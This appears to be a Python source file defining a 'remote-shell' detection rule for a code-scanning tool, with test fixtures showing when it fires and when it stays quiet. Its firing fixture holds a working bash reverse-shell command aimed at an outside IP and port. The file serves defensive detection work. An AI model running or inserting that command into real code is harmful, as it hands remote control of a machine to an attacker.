"""A shell is handed to somebody at the other end of a connection."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for process in view.of(v.PROC):
        if "remote-shell" in process.flags:
            yield Hit(
                f"{process.detail or 'a process'} gives a shell to the other end of a connection", (process,)
            )


RULE = Rule(
    name="remote-shell",
    description="A command gives a shell to whoever is at the other end of a connection; called or not.",
    grade=HOLD,
    find=_find,
    fires={
        "acme/tools.py": (
            "import os\n\ndef serve():\n    os.system('bash -i >& /dev/tcp/203.0.113.9/4433 0>&1')\n"
        )
    },
    quiet={"acme/tools.py": "import subprocess\n\ndef shell():\n    subprocess.run(['bash', '-i'])\n"},
    rates="see docs/benchmarks.md",
)
